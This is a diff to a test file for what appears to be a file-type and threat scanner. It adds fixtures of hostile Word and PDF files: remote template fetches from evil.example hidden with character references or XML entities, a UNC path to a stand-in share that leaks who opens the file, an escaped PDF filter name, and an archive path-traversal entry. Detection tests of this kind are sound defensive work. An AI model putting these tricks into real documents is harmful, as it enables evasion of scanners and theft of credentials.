@@ -52,7 +52,13 @@ test.each([
     'docx',
     () => aDocx([link, template('file:///C:\\CV.dotx')]),
   ],
+  [
+    'a Word file with the settings of a printer',
+    'docx',
+    () => aDocx([{ name: 'word/printerSettings1.bin', content: 'x' }]),
+  ],
   ['an old Word file', 'doc', () => aDoc()],
+  ['an old Word file of few words, as LibreOffice writes it', 'doc', () => readFile('tests/documents/libreoffice.doc')],
 ] as [string, string, Make][])('%s is taken as %s', async (_, type, make) => {
   expect(await read(await make())).toBe(type);
 });
@@ -79,6 +85,15 @@ test.each([
         compressed(script).map((part) => (typeof part === 'string' ? part.replace('ObjStm', 'Obj#53tm') : part)),
       ),
   ],
+  [
+    'a PDF with a compressed script whose filter is spelled otherwise',
+    'damaged',
+    () =>
+      aPdf(
+        5_000,
+        compressed(script).map((part) => (typeof part === 'string' ? part.replace('/Filter', '/#46ilter') : part)),
+      ),
+  ],
   ['a PDF that starts a program', 'active', () => aPdf(5_000, ['8 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj\n'])],
   ['a PDF with a file within', 'active', () => aPdf(5_000, ['8 0 obj\n<</Type/EmbeddedFile>>\nendobj\n'])],
   ['a PDF with a password', 'locked', () => aPdf(5_000, ['8 0 obj\n<</Encrypt 9 0 R>>\nendobj\n'])],
@@ -99,6 +114,33 @@ test.each([
     'a Word file that fetches its template from a neighbour',
     'active',
     () => aDocx([template('\\\\evil\\share\\a.dotm')]),
+  ],
+  [
+    'a Word file that fetches its template from an address in references',
+    'damaged',
+    () => aDocx([template('&#104;ttps://evil.example/a.dotm')]),
+  ],
+  [
+    'a Word file that fetches its template from an address with a name of its own',
+    'damaged',
+    () =>
+      aDocx([
+        {
+          ...template('&x;'),
+          content: `<!DOCTYPE a [<!ENTITY x "https://evil.example/a.dotm">]>${template('&x;').content}`,
+        },
+      ]),
+  ],
+  [
+    'a Word file that fetches a picture from a neighbour, and tells it who reads',
+    'active',
+    () =>
+      aDocx(
+        [template('\\\\evil\\share\\a.png')].map((part) => ({
+          ...part,
+          content: part.content.replace('attachedTemplate', 'image'),
+        })),
+      ),
   ],
   ['an archive with a path out of it', 'damaged', () => aDocx([{ name: '../../evil', content: 'x' }])],
   ['an archive with the same name twice', 'damaged', () => aDocx([wordDocument])],
